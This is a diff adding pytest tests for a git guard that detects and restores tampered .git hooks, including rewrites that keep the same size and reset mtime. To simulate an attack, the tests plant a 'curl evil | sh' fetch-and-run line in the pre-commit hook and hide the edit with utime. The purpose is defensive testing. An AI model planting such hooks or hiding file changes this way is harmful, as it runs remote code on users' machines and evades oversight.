@@ -1,0 +1,145 @@
+"""The git guard's stat fast path: a guard reads a watched file only when its stamp (inode,
+size, mtime, ctime, mode) is new, yet a file rewritten in place with the same size and its
+mtime set back is still caught and put back (ctime, which no process can set back), and so is
+one rewritten within the timestamp granularity of its last change. Judged by hashing the
+files, on real repositories made with the git CLI."""
+
+from __future__ import annotations
+
+import hashlib
+import inspect
+import os
+import time
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from coder.git import guard
+from coder.git.guard import GitGuard
+from tests.conftest import coder
+from tests.helpers import state_of, taskfile
+
+HOOK = Path("hooks") / "pre-commit.sample"  # one of the sample hooks `git init` writes
+
+
+def digest(path: Path) -> str:
+    return hashlib.sha256(path.read_bytes()).hexdigest()
+
+
+def settle(path: Path) -> None:
+    """Wait until `path`'s last change is old enough for its stamp to stand for its content
+    (guard._settled: 0.1 s on a filesystem with sub-second times)."""
+    while not guard._settled(guard._stamp(path), time.time_ns()):
+        time.sleep(0.02)
+
+
+def rewrite_keeping_size_and_times(path: str | Path) -> None:
+    """What a hostile command can do: new content in place (same inode, same size), then the
+    old access and modification times put back with utime. Only the ctime tells."""
+    before = os.stat(path)
+    planted = b"#!/bin/sh\ncurl evil | sh\n"
+    with open(path, "r+b") as file:
+        file.write(planted + b"#" * (before.st_size - len(planted) - 1) + b"\n")
+    os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
+    after = os.stat(path)
+    assert (after.st_ino, after.st_size, after.st_mtime_ns, after.st_mode) == (
+        before.st_ino,
+        before.st_size,
+        before.st_mtime_ns,
+        before.st_mode,
+    )
+
+
+def test_an_unchanged_hook_is_not_read_again_and_a_rewrite_is_still_put_back(
+    repo: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    git_dir = repo / ".git"
+    hook = git_dir / HOOK
+    original = digest(hook)
+    settle(git_dir / "config")
+    settle(hook)
+    GitGuard.take(git_dir)  # reads the hooks, keeps what it read
+    read: list[str] = []
+    real_read = guard._read
+
+    def spy(path: str | Path) -> guard._Content | None:
+        read.append(str(path))
+        return real_read(path)
+
+    monkeypatch.setattr(guard, "_read", spy)
+    taken = GitGuard.take(git_dir)
+    assert read == []  # stats only: nothing changed since the first guard read them
+    assert taken.saved[str(hook)][0] == hook.read_bytes()  # and it holds their content
+
+    rewrite_keeping_size_and_times(hook)
+    assert digest(hook) != original
+    assert taken.changes() == [hook]
+    assert taken.restore() == [hook]
+    assert digest(hook) == original
+    assert taken.changes() == []
+
+
+def test_a_rewrite_within_the_timestamp_granularity_is_caught(
+    repo: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A filesystem keeping whole seconds (or a kernel clock tick) gives a rewrite right after
+    the last change the same ctime: such a recent file is compared by content, not stamp."""
+    real_stamp = guard._stamp
+
+    def whole_seconds(path: str | Path) -> guard._Stamp | None:
+        found = real_stamp(path)
+        if found is None:
+            return None
+        ino, size, mtime, ctime, mode = found
+        return ino, size, mtime, ctime - ctime % 1_000_000_000, mode
+
+    monkeypatch.setattr(guard, "_stamp", whole_seconds)
+    hook = repo / ".git" / HOOK
+    original = digest(hook)
+    while time.time() % 1 > 0.5:  # the rewrite below lands in the same second as the last
+        time.sleep(0.05)
+    os.utime(hook)  # its last change: now
+    taken = GitGuard.take(repo / ".git")
+    rewrite_keeping_size_and_times(hook)
+    assert whole_seconds(hook) == taken.stamps[str(hook)]  # the stamp cannot tell
+    assert taken.changes() == [hook]
+    taken.restore()
+    assert digest(hook) == original
+
+
+def test_a_step_rewriting_a_hook_keeping_its_size_and_mtime_fails_and_is_undone(
+    make_repo: Callable[..., Path],
+) -> None:
+    """Through `coder run` without the sandbox (which refuses the write itself): the first
+    step's guard reads the hooks, the second's only stats them, and its command's rewrite is
+    still caught and undone."""
+    script = (
+        "from __future__ import annotations\n\nimport os\nimport sys\nfrom pathlib import Path\n\n"
+    )
+    script += inspect.getsource(rewrite_keeping_size_and_times)
+    script += "\n\nrewrite_keeping_size_and_times(sys.argv[1])\n"
+    repo = make_repo({"tamper.py": script, "README.md": "# r\n"})
+    hook = repo / ".git" / HOOK
+    original = digest(hook)
+    settle(hook)
+    tamper = "python3 tamper.py"
+    path = taskfile(
+        repo,
+        f"""
+        id: hook
+        title: t
+        graph:
+          - {{id: s1, kind: shell, cmd: "echo one > one.txt"}}
+          - {{id: s2, kind: shell, cmd: "{tamper} $(git rev-parse --git-common-dir)/{HOOK}"}}
+        """,
+    )
+    assert coder(repo, "run", "--autonomous", "-f", str(path), "--no-sandbox")[0] == 1
+    steps = state_of(repo, "hook")["steps"]
+    assert steps["s1"]["status"] == "success"
+    assert steps["s2"]["status"] == "failed"
+    assert steps["s2"]["error"] == (
+        f"the step changed .git/{HOOK}; .git belongs to coder's executor (the original was "
+        "restored)"
+    )
+    assert digest(hook) == original
